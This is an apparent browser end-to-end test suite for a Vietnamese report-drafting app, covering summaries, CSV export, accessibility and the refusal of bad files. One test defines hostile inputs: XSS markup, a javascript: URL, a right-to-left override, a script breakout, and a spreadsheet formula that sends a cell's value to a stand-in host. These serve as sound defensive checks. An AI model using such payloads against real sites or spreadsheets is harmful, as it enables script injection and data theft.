    const choices = await picker.locator('ul.plain button').allInnerTexts();
    assert.equal(choices.length, 3, `only the CQ reports are offered: ${choices}`);
    assert.ok(!choices.some((c) => /Đảng/.test(c)));
    const choose = (period) => picker.locator('ul.plain button', { hasText: `(${period})` }).click();

    await choose('quý II năm 2025');
    await notice.getByText(/^Không dùng được báo cáo «Báo cáo quý II năm 2025 – Chính quyền»: Báo cáo cũ khác loại kỳ báo cáo nên không dùng làm cùng kỳ được\.$/).waitFor();
    assert.match(await notice.getAttribute('class'), /\berror\b/);
    await choose('quý III năm 2024');
    await notice.getByText(/^Không dùng được báo cáo «Báo cáo quý III năm 2024 – Chính quyền»: Báo cáo cũ là của năm 2024; cùng kỳ phải là năm 2025\.$/).waitFor();
    assert.deepEqual((await storedDraft(page, current)).report.cung_ky, {}, 'a refused report changes nothing');

    await choose('quý III năm 2025');
    await notice.getByText(/^Đã lấy \d+ số liệu cùng kỳ từ báo cáo «Báo cáo quý III năm 2025 – Chính quyền»\.$/).waitFor();
    const env = await waitForDraft(page, current, (e) => e.report.cung_ky.hg_thanh === 11, 'cùng kỳ in storage');
    assert.deepEqual(HG_KEYS.map((k) => env.report.cung_ky[k]), [13, 11, 2]);
    assert.deepEqual(env.report.values, {}, 'the current figures are untouched');
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, `cung_ky.${k}`).inputValue())), ['13', '11', '2']);
    await savedChip(page);
    await page.reload();
    await editorReady(page);
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, `cung_ky.${k}`).inputValue())), ['13', '11', '2'], 'after a reload');

    // The same from files, in another 2026 report.
    const other = await createReport(page, { kind: 'CQ', period: 'Q3', year: 2026 });
    await picker.getByRole('button', { name: 'Lấy số liệu cùng kỳ' }).click();
    const input = page.locator('input[name="cung-ky-file"]');
    await input.setInputFiles([fileOf(fileQ2.name, fileQ2.bytes)]);
    await notice.getByText(`Không dùng được tệp «${fileQ2.name}»: Báo cáo cũ khác loại kỳ báo cáo nên không dùng làm cùng kỳ được.`, { exact: true }).waitFor();
    const tampered = clone(fileQ3.json);
    tampered.report.values.hg_thanh = 12;
    await input.setInputFiles([fileOf('cung-ky-sua-tay.json', tampered)]);
    await notice.getByText('Tệp «cung-ky-sua-tay.json»: mã kiểm tra không khớp: tệp đã bị sửa tay hoặc bị hỏng.', { exact: true }).waitFor();
    assert.deepEqual((await storedDraft(page, other)).report.cung_ky, {}, 'refused files change nothing');
    // Last year's file as another ward sent it (figures differ from the stored report).
    const sent = variant(fileQ3.json, (r) => { r.values.hg_tiep_nhan = 20; r.values.hg_thanh = 15; r.values.hg_khong_thanh = 5; });
    await input.setInputFiles([fileOf('BCDV_TKD_2025Q3_CQ (gửi lên).json', sent)]);
    await notice.getByText(/^Đã lấy \d+ số liệu cùng kỳ từ tệp «BCDV_TKD_2025Q3_CQ \(gửi lên\)\.json»\.$/).waitFor();
    const env2 = await waitForDraft(page, other, (e) => e.report.cung_ky.hg_thanh === 15, 'cùng kỳ from the file in storage');
    assert.deepEqual(HG_KEYS.map((k) => env2.report.cung_ky[k]), [20, 15, 5]);
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, `cung_ky.${k}`).inputValue())), ['20', '15', '5']);
    await savedChip(page);
    // The first 2026 report kept its own cùng kỳ.
    assert.equal((await storedDraft(page, current)).report.cung_ky.hg_thanh, 11);
  });
});

const WARDS = [
  { file: 'BCDV_P1_2025Q3_CQ.json', code: 'P1', name: 'PHƯỜNG TÂN QUY ĐÔNG', hg: [13, 11, 2], ck: [10, 8, 2] },
  { file: 'BCDV_P2_2025Q3_CQ.json', code: 'P2', name: 'XÃ TÂN KHÁNH ĐÔNG', hg: [7, 7, 0], ck: [6, 5, 1] },
  { file: 'BCDV_P3_2025Q3_CQ.json', code: 'P3', name: 'PHƯỜNG AN HÒA', hg: [4, 1, 3], ck: [4, 2, 2] },
];

/** The report file of one ward, made from the base file. */
function wardFile(base, { code, name, hg, ck }, n, edit = () => {}) {
  return variant(base, (r) => {
    r.id = uuid(n);
    r.unit = { ...r.unit, code, name, place: name };
    r.name = `Báo cáo quý III năm 2025 – ${name}`;
    r.values = Object.fromEntries(HG_KEYS.map((k, i) => [k, hg[i]]));
    r.cung_ky = ck ? Object.fromEntries(HG_KEYS.map((k, i) => [k, ck[i]])) : {};
    r.updated_at = `2025-10-0${n % 9 + 1}T03:00:00Z`;
    edit(r);
  });
}

/** The summary table as { headers, rows: [{ head, cells }], total: { head, cells } }. */
async function summaryTable(page) {
  return page.locator('table.summary-table').evaluate((t) => {
    const cellsOf = (tr) => [...tr.children].slice(1).map((c) => c.innerText.trim());
    return {
      headers: [...t.tHead.rows[0].cells].map((c) => c.innerText.trim()),
      rows: [...t.tBodies[0].rows].map((tr) => ({ head: tr.cells[0].innerText.trim(), cells: cellsOf(tr) })),
      total: { head: t.tFoot.rows[0].cells[0].innerText.trim(), cells: cellsOf(t.tFoot.rows[0]) },
    };
  });
}

/** Minimal RFC 4180 reader for the app's CSV (every cell quoted). */
function csvRows(text) {
  return text.split('\r\n').filter((l) => l !== '').map((line) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replaceAll('""', '"')));
}

test('7. the summary of three wards\' files adds the figures, recomputes the rate from the totals, sets aside another period and a duplicate, exports a CSV for Excel and creates the summed report', async () => {
  const base = await baseFile();
  const files = [
    ...WARDS.map((w, i) => fileOf(w.file, wardFile(base, w, 10 + i))),
    fileOf('BCDV_P4_2025Q2_CQ.json', wardFile(base, { code: 'P4', name: 'PHƯỜNG 4', hg: [3, 3, 0] }, 14, (r) => {
      r.period = quarter(2, 2025);
      r.name = 'Báo cáo quý II năm 2025 – PHƯỜNG 4';
    })),
    // An older version of P1's report, sent again under another name.
    fileOf('BCDV_P1_2025Q3_CQ (gửi lại).json', wardFile(base, { ...WARDS[0], hg: [99, 90, 9] }, 15, (r) => { r.updated_at = '2025-09-30T00:00:00Z'; })),
    fileOf('BCDV_P5_hong.json', (() => { const f = clone(base); f.report.values.hg_thanh = 1; return f; })()),
  ];
  await withSession(async ({ page }) => {
    await page.goto(new URL('#/tong-hop', page.url()).href);
    await page.getByRole('heading', { level: 1, name: 'Tổng hợp báo cáo các đơn vị' }).waitFor();
    const before = await appStorage(page);
    // Two picks: the files add up.
    await page.locator('input[name="summary-files"]').setInputFiles(files.slice(0, 2));
    await page.getByText('Đã nhận 2 tệp: lấy 2, để riêng 0.', { exact: true }).waitFor();
    await page.locator('input[name="summary-files"]').setInputFiles(files.slice(2));
    await page.locator('table.summary-table').waitFor();
    await page.getByText('Đã nhận 6 tệp: lấy 3, để riêng 3.', { exact: true }).waitFor();
    await page.getByRole('heading', { level: 2, name: 'Quý III năm 2025 – Chính quyền (3 đơn vị)' }).waitFor();
    // Each unit's own rates and issues fill in right after the table appears.
    await page.locator('td.unit-check', { hasText: 'Đang kiểm tra…' }).first().waitFor({ state: 'detached' });

    const table = await summaryTable(page);
    const col = (re) => {
      const i = table.headers.findIndex((h) => re.test(h));
      assert.ok(i > 0, `a column ${re} among ${JSON.stringify(table.headers)}`);
      return i - 1;
    };
    const cols = [col(/tiếp nhận/i), col(/^Hòa giải thành/), col(/^Hòa giải không thành/), col(/^Tỷ lệ hòa giải thành/)];
    assert.equal(table.headers[0], 'Đơn vị');
    assert.equal(table.rows.length, 3, 'one row per ward');
    const rates = ['84,62%', '100%', '25%'];
    for (const [i, w] of WARDS.entries()) {
      const row = table.rows.find((r) => r.head.startsWith(w.name));
      assert.ok(row, `a row for ${w.name}: ${JSON.stringify(table.rows.map((r) => r.head))}`);
      assert.ok(row.head.includes(w.file), 'the row names its file');
      assert.deepEqual(cols.map((c) => row.cells[c]), [...w.hg.map(String), rates[i]], w.name);
      assert.match(row.cells.at(-1), /^\d+ lỗi, \d+ cảnh báo/, `${w.name}: its own check`);
    }
    assert.equal(table.total.head, 'Tổng cộng');
    assert.deepEqual(cols.map((c) => table.total.cells[c]), ['24', '19', '5', '79,17%'], 'totals, and the rate of the totals (not 69,87%, the mean of the rates)');

    const aside = await page.locator('ul.set-aside > li').allInnerTexts();
    assert.equal(aside.length, 3, JSON.stringify(aside));
    const reason = (name) => aside.find((t) => t.includes(`«${name}»`));
    assert.equal(reason('BCDV_P4_2025Q2_CQ.json'), 'Tệp «BCDV_P4_2025Q2_CQ.json»: khác kỳ báo cáo (quý II năm 2025, cần quý III năm 2025).');
    assert.equal(reason('BCDV_P1_2025Q3_CQ (gửi lại).json'),
      'Tệp «BCDV_P1_2025Q3_CQ (gửi lại).json»: trùng đơn vị PHƯỜNG TÂN QUY ĐÔNG với tệp «BCDV_P1_2025Q3_CQ.json» (giữ bản cập nhật sau).');
    assert.match(reason('BCDV_P5_hong.json'), /mã kiểm tra không khớp/);
    assert.deepEqual(await appStorage(page), before, 'merging stores nothing');

    // CSV for Excel.
    const csv = await download(page, () => page.getByRole('button', { name: 'Xuất bảng ra Excel (CSV)' }).click());
    assert.equal(csv.name, 'BCDV_TongHop_2025Q3_CQ.csv');
    assert.deepEqual([...csv.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
    const text = csv.bytes.subarray(3).toString('utf8');
    assert.ok(!text.startsWith('\ufeff'), 'one BOM only');
    assert.ok(text.endsWith('\r\n'));
    assert.equal(text.replaceAll('\r\n', '').includes('\n'), false, 'CRLF line endings only');
    assert.equal(text.replaceAll('\r\n', '').includes('\r'), false, 'no lone CR');
    const rows = csvRows(text);
    assert.equal(rows.length, 5, 'header, three wards, total');
    assert.equal(rows[0][0], 'Đơn vị');
    const csvCol = (re) => rows[0].findIndex((h) => re.test(h));
    const ccols = [csvCol(/tiếp nhận/i), csvCol(/^Hòa giải thành/), csvCol(/^Hòa giải không thành/), csvCol(/^Tỷ lệ hòa giải thành/)];
    assert.ok(ccols.every((c) => c > 0), JSON.stringify(rows[0]));
    for (const w of WARDS) {
      const r = rows.find((x) => x[0] === w.name);
      assert.ok(r, `CSV row of ${w.name} (Vietnamese name intact): ${JSON.stringify(rows.map((x) => x[0]))}`);
      assert.deepEqual(ccols.slice(0, 3).map((c) => r[c]), w.hg.map(String));
    }
    assert.equal(rows[4][0], 'Tổng cộng');
    assert.deepEqual(ccols.map((c) => rows[4][c]), ['24', '19', '5', '79,17%']);
    assert.ok(text.includes('"PHƯỜNG AN HÒA"') && text.includes('"Tổng cộng"'));

    // A newer report of a unit replaces the older one, whatever the order.
    await page.getByRole('button', { name: 'Làm lại từ đầu' }).click();
    await page.locator('table.summary-table').waitFor({ state: 'detached' });
    const newer = fileOf('BCDV_P1_2025Q3_CQ (bản mới).json', wardFile(base, { ...WARDS[0], hg: [14, 12, 2] }, 16, (r) => { r.updated_at = '2025-11-01T00:00:00Z'; }));
    await page.locator('input[name="summary-files"]').setInputFiles([files[0], newer, files[1]]);
    await page.getByText('Đã nhận 3 tệp: lấy 2, để riêng 1.', { exact: true }).waitFor();
    const t2 = await summaryTable(page);
    const p1 = t2.rows.find((r) => r.head.startsWith(WARDS[0].name));
    assert.ok(p1.head.includes('(bản mới)'), 'the newer file is taken');
    assert.deepEqual(cols.slice(0, 3).map((c) => p1.cells[c]), ['14', '12', '2']);
    assert.deepEqual(cols.slice(0, 3).map((c) => t2.total.cells[c]), ['21', '19', '2']);
    assert.match(await page.locator('ul.set-aside').innerText(), /Tệp «BCDV_P1_2025Q3_CQ\.json»: trùng đơn vị PHƯỜNG TÂN QUY ĐÔNG với tệp «BCDV_P1_2025Q3_CQ \(bản mới\)\.json»/);
    await page.getByRole('button', { name: 'Làm lại từ đầu' }).click();
    await page.locator('input[name="summary-files"]').setInputFiles(files);
    await page.getByText('Đã nhận 6 tệp: lấy 3, để riêng 3.', { exact: true }).waitFor();
    assert.deepEqual(await summaryTable(page), table, 'the same files give the same table');

    // A new draft holding the sums.
    await page.getByRole('button', { name: 'Tạo báo cáo tổng hợp' }).click();
    await page.waitForURL(/#\/bao-cao\/.+/);
    await editorReady(page);
    const id = decodeURIComponent(page.url().split('#/bao-cao/')[1]);
    const env = await until(() => storedDraft(page, id), { what: 'the summary draft' });
    const r = env.report;
    assert.equal(r.name, 'Tổng hợp quý III năm 2025 – Chính quyền');
    assert.deepEqual([r.kind, r.period.period_type, r.period.year], ['CQ', 'Q3', 2025]);
    assert.deepEqual(r.values, { hg_tiep_nhan: 24, hg_thanh: 19, hg_khong_thanh: 5 });
    assert.deepEqual(r.cung_ky, { hg_tiep_nhan: 20, hg_thanh: 15, hg_khong_thanh: 5 });
    for (const w of WARDS) assert.ok(r.texts['N01.text'].includes(w.name), `N01.text lists ${w.name}: ${r.texts['N01.text']}`);
    assert.match(r.texts['N01.text'], /03 đơn vị/);
    assert.ok(!/PHƯỜNG 4|99/.test(r.texts['N01.text']), 'set-aside files are not listed');
    await page.getByRole('heading', { level: 1, name: 'Tổng hợp quý III năm 2025 – Chính quyền' }).waitFor();
    await openSection(page, N01);
    assert.equal(await field(page, 'N01.text').inputValue(), r.texts['N01.text']);
    await openSection(page, HG);
    assert.deepEqual(await Promise.all(HG_KEYS.map((k) => field(page, k).inputValue())), ['24', '19', '5']);
    await page.locator('.computed-row[data-key="hg_ty_le_thanh"]', { hasText: '79,17%' }).waitFor();
  });
});

test('8. zero axe-core violations: home with import results and a conflict question, summary with its table and set-aside list', async () => {
  const base = await baseFile();
  await withSession(async ({ page }) => {
    await importFiles(page, [fileOf('goc.json', base)]);
    const changed = variant(base, (r) => { r.values.hg_thanh = 10; r.values.hg_khong_thanh = 3; });
    const lines = await importFiles(page, [
      fileOf('ban-sua.json', changed),
      fileOf('hong.json', '{"schema": "danvan-report", '),
      fileOf('moi.json', variant(base, (r) => { r.id = uuid(3); })),
    ]);
    assert.deepEqual(lines.map((l) => l.cls.match(/\b(ok|error|conflict)\b/)[1]), ['conflict', 'error', 'ok']);
    await page.locator('.import-results li.conflict button').first().waitFor();
    // Collected, then asserted together, so one report shows every screen.
    const found = {};
    found.home = await axeViolations(page);
    // The result list is announced politely to screen readers.
    assert.equal(await page.locator('div:has(> ul.import-results)').getAttribute('role'), 'status');

    await page.goto(new URL('#/tong-hop', page.url()).href);
    await page.getByRole('heading', { level: 1, name: 'Tổng hợp báo cáo các đơn vị' }).waitFor();
    found.emptySummary = await axeViolations(page);
    await page.locator('input[name="summary-files"]').setInputFiles([
      ...WARDS.map((w, i) => fileOf(w.file, wardFile(base, w, 20 + i))),
      fileOf('BCDV_P4_2025Q2_CQ.json', wardFile(base, { code: 'P4', name: 'PHƯỜNG 4', hg: [3, 3, 0] }, 24, (r) => { r.period = quarter(2, 2025); })),
    ]);
    await page.locator('table.summary-table tfoot').waitFor();
    await page.locator('ul.set-aside > li').first().waitFor();
    found.summary = await axeViolations(page);
    assert.deepEqual(found, { home: [], emptySummary: [], summary: [] }, 'no axe-core violation on any of the screens');
  });
});

const XSS_IMG = '<img src=x onerror=alert(1)>';
const XSS_JS = 'javascript:alert(1)';
const RLO = '\u202E';
const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")';

test('9. hostile text in a file (HTML, javascript: URL, RTL override) is shown literally on home, editor, print view and summary: no dialog, no injected element', async () => {
  const base = await baseFile();
  const unitName = `${XSS_IMG} PHƯỜNG ${RLO}1 GNÁH${'\u202C'}`;
  const name = `${XSS_IMG} ${XSS_JS} ${RLO}fdp.exe`;
  const text = `${XSS_IMG}\n<a href="${XSS_JS}">bấm</a> ${XSS_JS}\n${RLO}Văn bản đảo chiều</script><script>alert(2)</script>`;
  const hostile = variant(base, (r) => {
    r.id = uuid(66);
    r.name = name;
    r.unit = { ...r.unit, code: XSS_JS, name: unitName, place: XSS_IMG };
    r.texts['N01.text'] = text;
    r.signature = { quyen_han: XSS_IMG, chuc_vu: XSS_JS, ho_ten: `${RLO}Nguyễn Văn A` };
    r.recipients = [XSS_IMG, XSS_JS];
  });
  const hostileName = `${RLO}nosj.${XSS_IMG}.json`;
  await withSession(async ({ page, dialogs }) => {
    const noInjection = async (where) => {
      assert.equal(await page.locator('img[src="x"]').count(), 0, `${where}: no injected img`);
      assert.equal(await page.locator('a[href^="javascript:"], [onerror], [onclick]').count(), 0, `${where}: no javascript: link or inline handler`);
      assert.equal(await page.locator('script:not([src])').count(), 0, `${where}: no inline script`);
      assert.deepEqual(dialogs, [], `${where}: no dialog`);
    };
    const lines = await importFiles(page, [fileOf(hostileName, hostile)]);
    assert.equal(lines[0].text, `Tệp «${hostileName}»: đã nhập báo cáo «${name}».`);
    const row = draftRow(page, uuid(66));
    await row.waitFor();
    assert.ok((await row.locator('.draft-name').innerText()).includes(name), 'home: the name literally');
    assert.ok((await row.innerText()).includes(unitName), 'home: the unit literally');
    assert.deepEqual((await storedDraft(page, uuid(66))).report, hostile.report, 'stored as in the file');
    await noInjection('home');

    await row.getByRole('link', { name: 'Mở' }).click();
    await editorReady(page);
    assert.equal(await page.locator('.editor-title h1').innerText(), name, 'editor: the title literally');
    assert.ok((await page.locator('.editor-title').innerText()).includes(unitName));
    await openSection(page, N01);
    assert.equal(await field(page, 'N01.text').inputValue(), text, 'editor: the text literally');
    await noInjection('editor');
    // Exporting it gives a plain ASCII file name (no RTL override, no markup).
    const exported = await exportOpenReport(page);
    assert.equal(exported.name, 'BCDV_javascriptalert1_2025Q3_CQ.json');
    assertSchemaValid(exported.json, 'hostile report export');
    await savedChip(page);

    // The print view ("Xem bản in"), once the app routes it (#/in/<id> is not routed yet in this build).
    await page.goto(new URL(`#/in/${uuid(66)}`, page.url()).href);
    await appReady(page);
    await page.locator('main h1').first().waitFor();
    if (!(await page.getByRole('heading', { name: 'Không tìm thấy trang' }).isVisible())) {
      await until(async () => (await page.locator('main').innerText()).includes(XSS_IMG), { what: 'the print view with the text' });
      const printed = await page.locator('main').innerText();
      assert.ok(printed.includes(`${RLO}Văn bản đảo chiều</script><script>alert(2)</script>`), 'print view: the text literally');
    }
    await noInjection('print view');

    await page.goto(new URL('#/tong-hop', page.url()).href);
    await page.getByRole('heading', { level: 1, name: 'Tổng hợp báo cáo các đơn vị' }).waitFor();
    await page.locator('input[name="summary-files"]').setInputFiles([
      fileOf(hostileName, hostile),
      fileOf(WARDS[1].file, wardFile(base, WARDS[1], 67)),
      fileOf('BCDV_P9_2025Q3_CQ.json', wardFile(base, { code: 'P9', name: FORMULA, hg: [1, 1, 0] }, 68)),
    ]);
    await page.locator('table.summary-table').waitFor();
    const table = await summaryTable(page);
    assert.equal(table.rows.length, 3);
    assert.ok(table.rows.some((r) => r.head.includes(unitName) && r.head.includes(hostileName)), `summary: the unit and file literally: ${JSON.stringify(table.rows.map((r) => r.head))}`);
    assert.ok(table.rows.some((r) => r.head.startsWith(FORMULA)), 'summary: a formula-like unit name is shown as typed');
    await noInjection('summary');
    // In the CSV the hostile name is kept as text, and a formula is defused for Excel.
    const csv = await download(page, () => page.getByRole('button', { name: 'Xuất bảng ra Excel (CSV)' }).click());
    const rows = csvRows(csv.bytes.subarray(3).toString('utf8'));
    assert.ok(rows.some((r) => r[0] === unitName), 'CSV: the hostile unit name literally');
    assert.ok(rows.some((r) => r[0] === `'${FORMULA}`), `CSV: the formula starts with an apostrophe: ${JSON.stringify(rows.map((r) => r[0]))}`);
    await page.getByRole('button', { name: 'Tạo báo cáo tổng hợp' }).click();
    await page.waitForURL(/#\/bao-cao\/.+/);
    await editorReady(page);
    await openSection(page, N01);
    assert.ok((await field(page, 'N01.text').inputValue()).includes(unitName), 'the summed report lists the unit literally');
    await noInjection('summed report');
  });
});

/**
 * Import `files` ([name, json, expected-message regexp]) one batch, and
 * collect, per file, what went wrong: accepted, stored, or a message not
 * matching. Storage must be unchanged. Returns the problems (empty = fine).
 */
async function refusalProblems(page, files) {
  const before = await appStorage(page);
  const lines = await importFiles(page, files.map(([name, json]) => fileOf(name, json)));
  const problems = [];
  for (const [name, json, why] of files) {
    const line = lines.find((l) => l.text.includes(`«${name}»`));
    if (!line) problems.push(`${name}: no result line`);
    else if (!/\berror\b/.test(line.cls)) problems.push(`${name}: accepted (${line.cls}): ${line.text.split('\n')[0]}`);
    else if (!why.test(line.text)) problems.push(`${name}: message ${JSON.stringify(line.text)} does not match ${why}`);
    else if (!line.text.startsWith(`Tệp «${name}»: `)) problems.push(`${name}: message does not start with the file name`);
    void json;
  }
  const after = await appStorage(page);
  const changed = Object.keys({ ...before, ...after }).filter((k) => before[k] !== after[k]);
  if (changed.length) problems.push(`storage changed: ${changed.join(', ')}`);
  return problems;
}

test('10. files that the published schema or the app\'s own text limit rejects are refused, whatever field holds the fault', async () => {
  const base = await baseFile();
  const bad = (n, fn) => variant(base, (r) => { r.id = uuid(100 + n); fn(r); });
  const files = [
    ['tu-chi-muc-sai.json', bad(1, (r) => { r.qualifiers = { hg_thanh: '<b>rất nhiều</b>' }; }), /«qualifiers|hg_thanh|từ chỉ mức/],
    ['ngay-thang-sai.json', bad(2, (r) => { r.header = { ...r.header, day: 45, month: 13 }; }), /«header|ngày|tháng/],
    ['can-cu-qua-dai.json', bad(3, (r) => { r.can_cu = [{ loai: 'Kế hoạch', so_ky_hieu: '98/KH-UBND', trich_yeu: 'ă'.repeat(200_001) }]; }), /dài quá 200000 ký tự/],
    ['ten-cap-tren-qua-dai.json', bad(4, (r) => { r.unit = { ...r.unit, party_upper: 'Đ'.repeat(200_001) }; }), /dài quá 200000 ký tự/],
    ['so-van-ban-qua-dai.json', bad(5, (r) => { r.header = { ...r.header, number: '1'.repeat(200_001) }; }), /số văn bản quá dài/],
  ];
  // The first two break the published schema; the last three hold a text
  // longer than MAX_TEXT_CHARS (import.rs), which narratives, signature and
  // footnotes are refused for.
  assert.equal(schemaValid(files[0][1]), false);
  assert.equal(schemaValid(files[1][1]), false);
  await withSession(async ({ page }) => {
    const problems = await refusalProblems(page, files);
    assert.deepEqual(problems, [], 'every file refused with its reason, nothing stored');
  });
});

test('11. import messages are Vietnamese and point at the right thing (kind, cùng kỳ field, size, what to do when storage is full)', async () => {
  const base = await baseFile();
  const bad = (n, fn) => variant(base, (r) => { r.id = uuid(200 + n); fn(r); });
  const noEnglish = /^(?!.*(unknown variant|missing field|invalid type|expected|out of range|at line)).*$/s;
  const files = [
    // A Đảng report that claims the Chính quyền outline: the app has that outline.
    ['loai-khong-khop.json', bad(1, (r) => { r.kind = 'DANG'; }), /^(?!.*ứng dụng không có đề cương này).*(loại|Đảng)/s],
    ['loai-la.json', bad(2, (r) => { r.kind = 'MTTQ'; }), noEnglish],
    ['thieu-loai.json', bad(3, (r) => { delete r.kind; }), noEnglish],
    ['ky-sai-kieu.json', bad(4, (r) => { r.period = 'Q3-2025'; }), noEnglish],
    ['ngay-khong-co.json', bad(5, (r) => { r.period = { ...r.period, from: '2025-13-45' }; }), noEnglish],
    // A wrong cùng kỳ figure must name the cùng kỳ field, not the current one.
    ['cung-ky-sai.json', bad(6, (r) => { r.cung_ky.hg_thanh = -2; }), /«cung_ky\.hg_thanh»/],
    // Vietnamese writes 6,0 MB.
    ['qua-lon-6mb.json', Buffer.alloc(6 * 1024 * 1024, 0x20), /tệp quá lớn \(6,0 MB; tối đa 5 MB\)/],
  ];
  await withSession(async ({ page }) => {
    const problems = await refusalProblems(page, files);
    // Storage full during an import: the advice must be one the home screen lets you follow.
    await fillStorage(page);
    const [full] = await importFiles(page, [fileOf('khi-day.json', bad(9, () => {}))]);
    await freeStorage(page);
    const button = full.text.match(/bấm «([^»]+)»/)?.[1];
    if (button && (await page.getByRole('button', { name: button }).count()) === 0) {
      problems.push(`storage full on import: ${JSON.stringify(full.text)} asks to press «${button}», which is not on this screen`);
    }
    assert.deepEqual(problems, [], 'each message in Vietnamese and about the right thing');
  });
});

/** Fill the origin's localStorage quota with keys that are not the app's; returns how many. */
async function fillStorage(page) {
  const n = await page.evaluate(() => {
    let i = 0;
    for (let size = 1 << 20; size >= 1; size >>= 1) {
      const chunk = 'x'.repeat(size);
      try { for (;;) { localStorage.setItem(`filler.${i}`, chunk); i++; } } catch { /* full at this size */ }
    }
    return i;
  });
  assert.ok(await page.evaluate(() => { try { localStorage.setItem('filler.probe', 'xx'); return false; } catch (e) { return e.name === 'QuotaExceededError'; } }), 'storage is full');
  return n;
}

const freeStorage = (page) => page.evaluate(() => { for (const k of Object.keys(localStorage)) if (k.startsWith('filler.')) localStorage.removeItem(k); });

test('12. storage full: an import, a "Thay bằng bản trong tệp" and a restore say plainly that nothing was stored, and nothing is half-written; with space back the same files import', async () => {
  const base = await baseFile();
  await withSession(async ({ page }) => {
    await importFiles(page, [fileOf('goc.json', base)]);
    const before = await appStorage(page);
    const fresh = fileOf('moi.json', variant(base, (r) => { r.id = uuid(40); r.name = 'Báo cáo mới nhận'; }));
    // Longer than the stored version, so that it cannot fit in a full store.
    const changed = fileOf('ban-sua.json', variant(base, (r) => { r.values.hg_thanh = 10; r.values.hg_khong_thanh = 3; r.texts['N01.text'] = 'Tình hình ổn định. '.repeat(200); }));
    const restore = fileOf('sao-luu.json', backupOf([variant(base, (r) => { r.id = uuid(41); }).report], { code: 'P9', name: 'PHƯỜNG 9' }));
    assert.ok(await fillStorage(page) > 3);

    const lines = await importFiles(page, [fresh, changed, restore], { expected: 4 });
    const of = (name) => lines.filter((l) => l.text.includes(`«${name}»`));
    assert.match(of('moi.json')[0].cls, /\berror\b/);
    assert.match(of('moi.json')[0].text, /^Tệp «moi\.json»: chưa nhập được\. Bộ nhớ của trình duyệt đã đầy/);
    assert.deepEqual(of('sao-luu.json').map((l) => /\berror\b/.test(l.cls)), [true, true], 'restore: profile and report both fail, visibly');
    assert.match(of('sao-luu.json')[0].text, /chưa khôi phục được thông tin đơn vị\. Bộ nhớ của trình duyệt đã đầy/);
    assert.match(of('sao-luu.json')[1].text, /chưa nhập được\. Bộ nhớ của trình duyệt đã đầy/);
    // The changed version asks first; replacing fails plainly.
    await page.locator('.import-results > li.conflict').getByRole('button', { name: 'Thay bằng bản trong tệp' }).click();
    await page.locator('.import-results > li.error', { hasText: 'Tệp «ban-sua.json»: chưa nhập được. Bộ nhớ của trình duyệt đã đầy' }).waitFor();
    assert.deepEqual(await appStorage(page), before, 'nothing half-written');
    assert.equal(await page.locator('li.draft').count(), 1);

    await freeStorage(page);
    const again = await importFiles(page, [fresh, restore], { expected: 3 });
    assert.ok(again.every((l) => /\bok\b/.test(l.cls)), JSON.stringify(again));
    await draftRow(page, uuid(40)).waitFor();
    await draftRow(page, uuid(41)).waitFor();
    assert.equal((await storedJson(page, 'bcdv.profile')).code, 'P9');
    assert.equal((await storedDraft(page, base.reportId)).report.values.hg_thanh, 11, 'the refused replacement never landed');
  });
});
